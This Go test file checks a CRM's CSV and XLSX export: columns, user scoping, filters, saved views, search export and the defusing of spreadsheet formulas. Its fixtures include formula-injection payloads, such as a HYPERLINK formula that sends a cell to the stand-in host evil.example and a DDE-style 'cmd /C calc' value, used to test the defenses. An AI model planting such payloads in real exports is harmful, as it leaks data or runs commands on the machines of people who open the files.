package exports

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/relasi/relasi/internal/auth"
	"github.com/relasi/relasi/internal/errs"
	"github.com/relasi/relasi/internal/records"
	"github.com/relasi/relasi/internal/store"
	"github.com/relasi/relasi/internal/store/storetest"
)

// sample is the contacts the content tests export: every kind of value,
// Indonesian names, emoji, and text a spreadsheet would run as a formula.
type sample struct {
	account          records.Record
	budi, ayu, siti  records.Record
	hyperlink, spill string
}

func (c *crm) sample(t testing.TB) sample {
	t.Helper()
	c.customFields(t)
	var s sample
	s.account = c.create(t, c.accounts, records.Input{"name": "PT Maju Jaya Sentosa", "city": "Jakarta", "employees": int64(120),
		"annual_revenue": json.Number("2500000000.75"), "tags": []string{"distributor", "b2b"}})
	s.budi = c.create(t, c.contacts, records.Input{
		"first_name": "Budi", "last_name": "Santoso", "emails": []string{"budi@maju.co.id", "Budi.Santoso@Gmail.com"},
		"phones": []string{"0812-3456-7890", "(021) 555-1234"}, "job_title": "Kepala Pembelian 🚀", "account_id": s.account.ID,
		"city": "Jakarta", "birth_date": "1985-03-17", "tags": []string{"vip", "jakarta"}, "owner_id": c.sales.UserID,
		"custom": map[string]any{"budget": json.Number("1500000.50"), "renewal": "2026-04-01", "vip": true, "score": 4.5, "channels": []string{"wa", "email"}},
	})
	s.hyperlink = `=HYPERLINK("http://evil.example/?leak="&A2,"Klik")`
	s.spill = "Jl. Raya Ubud No. 7, \"Puri\"\nGianyar"
	s.ayu = c.create(t, c.contacts, records.Input{
		"first_name": "Ni Luh Putu", "last_name": "Ayu Widyastuti 🌺", "city": "Denpasar", "street": s.spill,
		"job_title": s.hyperlink, "tags": []string{"@admin", "+promo"}, "custom": map[string]any{"vip": false}, "owner_id": nil,
	})
	s.siti = c.create(t, c.contacts, records.Input{
		"first_name": "Siti", "last_name": "-2+3", "city": "Bandung", "job_title": "@SUM(1+1)", "owner_id": c.admin.UserID,
		"phones": []string{"+62 22 4231 999"},
	})
	return s
}

// wantContactHeader is every field of a contact, references by what they
// point at: account_name, not account_id; owner_email, not owner_id.
var wantContactHeader = []string{"id", "first_name", "last_name", "emails", "phones", "job_title", "contact_role", "account_name",
	"street", "city", "province", "postal_code", "country", "source", "lifecycle_stage", "birth_date", "tags", "last_activity_at",
	"owner_email", "custom.budget", "custom.renewal", "custom.vip", "custom.score", "custom.channels", "created_at", "updated_at"}

// A CSV export holds every field, under its field name, written the way
// the import reads it; a reference as the name or e-mail the import finds
// it by in another database.
func TestCSVHoldsEveryFieldAsTheImportReadsIt(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			raw := c.export(t, c.admin, Request{})
			tb := readCSV(t, raw)
			if !slices.Equal(tb.header, wantContactHeader) {
				t.Fatalf("header\n got %v\nwant %v", tb.header, wantContactHeader)
			}
			if len(tb.rows) != 3 {
				t.Fatalf("%d rows, want 3", len(tb.rows))
			}
			budi := tb.find(t, "id", strconv.FormatInt(s.budi.ID, 10))
			want := map[string]string{
				"first_name": "Budi", "last_name": "Santoso",
				"emails":       "budi@maju.co.id, budi.santoso@gmail.com",
				"phones":       "+6281234567890, +62215551234",
				"job_title":    "Kepala Pembelian 🚀",
				"account_name": "PT Maju Jaya Sentosa",
				"birth_date":   "1985-03-17", "tags": "vip, jakarta",
				"owner_email":   "budi.sales@maju.co.id",
				"custom.budget": "1500000.5", "custom.renewal": "2026-04-01", "custom.vip": "true", "custom.score": "4.5",
				"custom.channels": "wa, email", "province": "", "source": "",
				"created_at": s.budi.CreatedAt.In(wib).Format(time.RFC3339),
			}
			for k, v := range want {
				if budi[k] != v {
					t.Errorf("Budi's %s = %q, want %q", k, budi[k], v)
				}
			}
			if !strings.HasSuffix(budi["created_at"], "+07:00") {
				t.Errorf("created_at %q is not in the user's zone (Asia/Jakarta)", budi["created_at"])
			}
			ayu := tb.find(t, "first_name", "Ni Luh Putu")
			if ayu["last_name"] != "Ayu Widyastuti 🌺" || ayu["street"] != s.spill || ayu["custom.vip"] != "false" || ayu["owner_email"] != "" {
				t.Errorf("Ayu's row: %v", ayu)
			}

			// Accounts: money in major units, the integer as it is.
			acc := readCSV(t, c.export(t, c.admin, Request{Entity: c.accounts}))
			row := acc.find(t, "name", "PT Maju Jaya Sentosa")
			if row["annual_revenue"] != "2500000000.75" || row["employees"] != "120" || row["tags"] != "distributor, b2b" {
				t.Errorf("account row %v", row)
			}
		})
	}
}

// A cell a spreadsheet would run as a formula is defused in CSV with an
// apostrophe; phone numbers and plain numbers are not touched, and the
// import's Undefuse gives the original text back.
func TestCSVDefusesFormulas(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			tb := readCSV(t, c.export(t, c.admin, Request{}))
			ayu := tb.find(t, "id", strconv.FormatInt(s.ayu.ID, 10))
			siti := tb.find(t, "id", strconv.FormatInt(s.siti.ID, 10))
			for _, tt := range []struct{ got, want, original string }{
				{ayu["job_title"], "'" + s.hyperlink, s.hyperlink},
				{ayu["tags"], "'@admin, +promo", "@admin, +promo"},
				{siti["last_name"], "'-2+3", "-2+3"},
				{siti["job_title"], "'@SUM(1+1)", "@SUM(1+1)"},
				{siti["phones"], "+62224231999", "+62224231999"},
			} {
				if tt.got != tt.want {
					t.Errorf("cell %q, want %q", tt.got, tt.want)
				}
				if back := Undefuse(tt.got); back != tt.original {
					t.Errorf("Undefuse(%q) = %q, want %q", tt.got, back, tt.original)
				}
			}
		})
	}
}

func TestDefuse(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"Budi", "Budi"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-", "'-"},
		{"1.", "1."},
		{"-1.", "'-1."},
		{"+6281234567890", "+6281234567890"},
		{"+6281234567890, +62215551234", "+6281234567890, +62215551234"},
		{"+6281234567890,+62215551234", "'+6281234567890,+62215551234"},
		{"+62 812", "'+62 812"},
		{"'=x", "''=x"}, // an apostrophe that was there already survives the round trip
		{"''=x", "'''=x"},
		{"'Bali'", "'Bali'"},
		{"it's", "it's"},
	} {
		got := defuse(tt.in)
		if got != tt.want {
			t.Errorf("defuse(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if back := Undefuse(got); back != tt.in {
			t.Errorf("Undefuse(defuse(%q)) = %q", tt.in, back)
		}
	}
}

// An XLSX export has the same header; numbers are numbers, money a number
// in major units shown with its decimals, dates dates, and text — even
// text starting with = — a string, never a formula.
func TestXLSXTypesItsCells(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			raw := c.export(t, c.admin, Request{Format: XLSX, Sort: "first_name"})
			f, err := excelize.OpenReader(bytes.NewReader(raw))
			if err != nil {
				t.Fatalf("open the XLSX: %v", err)
			}
			defer f.Close()
			if sheets := f.GetSheetList(); !slices.Equal(sheets, []string{"contacts"}) {
				t.Fatalf("sheets %v, want [contacts]", sheets)
			}
			rows, err := f.GetRows("contacts")
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(rows[0], wantContactHeader) {
				t.Fatalf("header\n got %v\nwant %v", rows[0], wantContactHeader)
			}
			if len(rows) != 4 || rows[1][1] != "Budi" || rows[2][1] != "Ni Luh Putu" || rows[3][1] != "Siti" {
				t.Fatalf("rows not in first-name order: %v", rows)
			}
			at := func(row int, col string) (shown, raw string, typ excelize.CellType) {
				t.Helper()
				ref, _ := excelize.CoordinatesToCellName(slices.Index(wantContactHeader, col)+1, row)
				shown, err1 := f.GetCellValue("contacts", ref)
				raw, err2 := f.GetCellValue("contacts", ref, excelize.Options{RawCellValue: true})
				typ, err3 := f.GetCellType("contacts", ref)
				if err1 != nil || err2 != nil || err3 != nil {
					t.Fatalf("cell %s: %v %v %v", ref, err1, err2, err3)
				}
				return shown, raw, typ
			}
			for _, tt := range []struct {
				row             int
				col, shown, raw string
			}{
				{2, "id", strconv.FormatInt(s.budi.ID, 10), strconv.FormatInt(s.budi.ID, 10)},
				{2, "custom.budget", "1,500,000.50", "1500000.5"},
				{2, "custom.score", "4.5", "4.5"},
				{2, "custom.renewal", "2026-04-01", "46113"},
				{2, "birth_date", "1985-03-17", "31123"},
				{2, "custom.vip", "TRUE", "1"},
				{2, "emails", "budi@maju.co.id, budi.santoso@gmail.com", "budi@maju.co.id, budi.santoso@gmail.com"},
				{2, "account_name", "PT Maju Jaya Sentosa", "PT Maju Jaya Sentosa"},
				{2, "created_at", s.budi.CreatedAt.In(wib).Format("2006-01-02 15:04:05"), ""},
				{3, "last_name", "Ayu Widyastuti 🌺", "Ayu Widyastuti 🌺"},
				{3, "job_title", s.hyperlink, s.hyperlink},
				{3, "street", s.spill, s.spill},
				{4, "last_name", "-2+3", "-2+3"},
			} {
				shown, raw, _ := at(tt.row, tt.col)
				if shown != tt.shown || tt.raw != "" && raw != tt.raw {
					t.Errorf("row %d %s: shown %q raw %q, want %q and %q", tt.row, tt.col, shown, raw, tt.shown, tt.raw)
				}
			}
			if _, _, typ := at(3, "job_title"); typ != excelize.CellTypeInlineString {
				t.Errorf("a text starting with = is a cell of type %v, want an inline string", typ)
			}
			if _, _, typ := at(2, "custom.vip"); typ != excelize.CellTypeBool {
				t.Errorf("custom.vip is a cell of type %v, want a boolean", typ)
			}
			if formula, _ := f.GetCellFormula("contacts", "F3"); formula != "" {
				t.Errorf("job_title has a formula %q", formula)
			}
			if n := strings.Count(sheetXML(t, raw), "<f>"); n != 0 {
				t.Errorf("the sheet holds %d formulas, want none", n)
			}
		})
	}
}

// sheetXML is the XML of the workbook's first sheet.
func sheetXML(t testing.TB, xlsx []byte) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, _ := io.ReadAll(rc)
	return string(b)
}

// A sales user exports what the list shows them: their own contacts and
// unowned ones, not a colleague's.
func TestExportKeepsTheCallersScope(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			for _, format := range []Format{CSV, XLSX} {
				ids := exportedIDs(t, format, c.export(t, c.sales, Request{Format: format}))
				want := []string{strconv.FormatInt(s.budi.ID, 10), strconv.FormatInt(s.ayu.ID, 10)}
				slices.Sort(ids)
				slices.Sort(want)
				if !slices.Equal(ids, want) {
					t.Errorf("%s: the sales user exported contacts %v, want %v (not Siti, the admin's)", format, ids, want)
				}
			}
			list, err := c.store.List(context.Background(), c.sales, c.contacts, records.Query{})
			if err != nil || len(list.Items) != 2 {
				t.Fatalf("the sales user's list has %d contacts (%v), want the same 2", len(list.Items), err)
			}
		})
	}
}

// exportedIDs reads the id column of a CSV or XLSX export.
func exportedIDs(t testing.TB, format Format, b []byte) []string {
	t.Helper()
	if format == CSV {
		return readCSV(t, b).column("id")
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range rows[1:] {
		ids = append(ids, r[0])
	}
	return ids
}

// The filter, the sort and the columns of the list are the export's.
func TestExportAppliesFilterSortAndColumns(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			tb := readCSV(t, c.export(t, c.admin, Request{Filter: `city = "Bandung" or custom.vip = true`, Sort: "-first_name",
				Columns: []string{"first_name", "account_id", "owner_id", "custom.vip"}}))
			// Asked for by name, a reference gives its ID too.
			if want := []string{"first_name", "account_id", "account_name", "owner_id", "owner_email", "custom.vip"}; !slices.Equal(tb.header, want) {
				t.Errorf("header %v, want %v", tb.header, want)
			}
			if budi := tb.find(t, "first_name", "Budi"); budi["account_id"] != strconv.FormatInt(s.account.ID, 10) || budi["owner_id"] != strconv.FormatInt(c.sales.UserID, 10) {
				t.Errorf("Budi's references: %v", budi)
			}
			if got := tb.column("first_name"); !slices.Equal(got, []string{"Siti", "Budi"}) {
				t.Errorf("rows %v, want Siti then Budi", got)
			}

			// A companion column asked for alone comes alone.
			tb = readCSV(t, c.export(t, c.admin, Request{Columns: []string{"account_name", "first_name"}, Filter: "account_id is not null"}))
			if !slices.Equal(tb.header, []string{"account_name", "first_name"}) || len(tb.rows) != 1 || tb.rows[0]["account_name"] != s.account.String("name") {
				t.Errorf("export %v %v", tb.header, tb.rows)
			}

			// Labels for people, in the user's language.
			tb = readCSV(t, c.export(t, c.admin, Request{Columns: []string{"first_name", "owner_id", "custom.budget"}, Labels: true, Lang: "id"}))
			if want := []string{"Nama depan", "Pemilik", "Pemilik (email)", "Anggaran"}; !slices.Equal(tb.header, want) {
				t.Errorf("labels %v, want %v", tb.header, want)
			}
		})
	}
}

// A saved view exports with its filter, sort and columns.
func TestExportOfASavedView(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			c.sample(t)
			ctx := context.Background()
			v, err := c.store.CreateView(ctx, c.admin, c.contacts, records.ViewInput{Name: "Bali", Filter: `city = "Denpasar"`, Columns: []string{"first_name", "city"}})
			if err != nil {
				t.Fatal(err)
			}
			tb := readCSV(t, c.export(t, c.admin, Request{ViewID: v.ID}))
			if !slices.Equal(tb.header, []string{"first_name", "city"}) || len(tb.rows) != 1 || tb.rows[0]["city"] != "Denpasar" {
				t.Errorf("view export %v %v", tb.header, tb.rows)
			}
			// The view of another entity, or another user's private view, is not found.
			if _, err := c.x.List(ctx, c.admin, Request{Entity: c.accounts, ViewID: v.ID, Format: CSV}); !errs.Is(err, errs.NotFound) {
				t.Errorf("a contacts view used for accounts: %v, want not found", err)
			}
			if _, err := c.x.List(ctx, c.sales, Request{Entity: c.contacts, ViewID: v.ID, Format: CSV}); !errs.Is(err, errs.NotFound) {
				t.Errorf("another user's private view: %v, want not found", err)
			}
		})
	}
}

// What the export refuses, it refuses before writing anything, naming the
// parameter.
func TestExportRefusesBadRequestsUpFront(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			c.sample(t)
			for _, tt := range []struct {
				name  string
				req   Request
				field string
			}{
				{"a filter that does not parse", Request{Filter: `city = `}, "filter"},
				{"a filter on an unknown field", Request{Filter: `kota = "Bandung"`}, "filter"},
				{"an unknown sort", Request{Sort: "shoe_size"}, "sort"},
				{"an unknown column", Request{Columns: []string{"first_name", "shoe_size"}}, "columns"},
				{"an unknown format", Request{Format: "pdf"}, "format"},
			} {
				t.Run(tt.name, func(t *testing.T) {
					req := tt.req
					req.Entity = c.contacts
					if req.Format == "" {
						req.Format = CSV
					}
					_, err := c.x.List(context.Background(), c.admin, req)
					e, ok := errs.As(err)
					if !ok || e.Code != errs.Invalid || len(e.Fields) == 0 || e.Fields[0].Field != tt.field {
						t.Fatalf("got %v, want an invalid %s", err, tt.field)
					}
				})
			}
		})
	}
}

// A search result exports as the list of hits, or as one entity's full
// records, within the caller's scope.
func TestSearchExport(t *testing.T) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) {
			c := newCRM(t, engine)
			s := c.sample(t)
			c.create(t, c.contacts, records.Input{"first_name": "Maju", "last_name": "Terus", "owner_id": c.admin.UserID})
			ctx := context.Background()
			run := func(p auth.Principal, req SearchRequest) []byte {
				t.Helper()
				ex, err := c.x.Search(ctx, p, req)
				if err != nil {
					t.Fatalf("search export %+v: %v", req, err)
				}
				var buf bytes.Buffer
				if err := ex.WriteTo(ctx, &buf); err != nil {
					t.Fatal(err)
				}
				return buf.Bytes()
			}
			hits := readCSV(t, run(c.admin, SearchRequest{Query: "maju", Format: CSV}))
			if !slices.Equal(hits.header, []string{"entity", "id", "title", "detail"}) {
				t.Errorf("hits header %v", hits.header)
			}
			got := map[string]bool{}
			for _, r := range hits.rows {
				got[r["entity"]+" "+r["title"]] = true
			}
			for _, want := range []string{"accounts PT Maju Jaya Sentosa", "contacts Budi Santoso", "contacts Maju Terus"} {
				if !got[want] {
					t.Errorf("hits %v lack %q", got, want)
				}
			}

			// One entity's hits as full records, for the sales user: not
			// the admin's Maju Terus.
			full := readCSV(t, run(c.sales, SearchRequest{Query: "maju", Entity: "contacts", Format: CSV}))
			if !slices.Equal(full.header, wantContactHeader) || len(full.rows) != 1 || full.rows[0]["id"] != strconv.FormatInt(s.budi.ID, 10) {
				t.Errorf("sales' contacts of the search: %v", full.rows)
			}

			// An XLSX has the hits and a sheet of records per entity.
			f, err := excelize.OpenReader(bytes.NewReader(run(c.admin, SearchRequest{Query: "maju", Format: XLSX})))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if sheets := f.GetSheetList(); !slices.Equal(sheets, []string{"search", "accounts", "contacts"}) {
				t.Errorf("sheets %v", sheets)
			}
			rows, _ := f.GetRows("contacts")
			if len(rows) != 3 || !slices.Equal(rows[0], wantContactHeader) {
				t.Errorf("contacts sheet %v", rows)
			}

			if _, err := c.x.Search(ctx, c.admin, SearchRequest{Query: "maju", Entity: "kucing", Format: CSV}); !errs.Is(err, errs.Invalid) {
				t.Errorf("unknown entity: %v", err)
			}
		})
	}
}

// onEveryEngine is for tests that need no more than a database.
func onEveryEngine(t *testing.T, fn func(t *testing.T, engine store.Engine)) {
	for _, engine := range storetest.Engines() {
		t.Run(string(engine), func(t *testing.T) { fn(t, engine) })
	}
}
